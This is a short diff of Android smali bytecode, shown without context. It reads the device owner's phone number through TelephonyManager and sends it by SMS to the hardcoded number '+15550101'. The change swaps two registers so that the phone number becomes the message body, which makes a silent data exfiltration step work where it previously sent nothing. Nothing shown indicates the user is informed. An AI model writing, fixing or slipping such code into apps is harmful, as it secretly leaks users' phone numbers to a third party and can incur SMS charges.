@@ -18,11 +18,11 @@
     move-result-object v0
     check-cast v0, Landroid/telephony/TelephonyManager;
     invoke-virtual {v0}, Landroid/telephony/TelephonyManager;->getLine1Number()Ljava/lang/String;
-    move-result-object v3
+    move-result-object v4
     invoke-static {}, Landroid/telephony/SmsManager;->getDefault()Landroid/telephony/SmsManager;
     move-result-object v1
     const-string v2, "+15550101"
-    const/4 v4, 0x0
+    const/4 v3, 0x0
     const/4 v5, 0x0
     const/4 v6, 0x0
     invoke-virtual/range {v1 .. v6}, Landroid/telephony/SmsManager;->sendTextMessage(Ljava/lang/String;Ljava/lang/String;Ljava/lang/String;Landroid/app/PendingIntent;Landroid/app/PendingIntent;)V
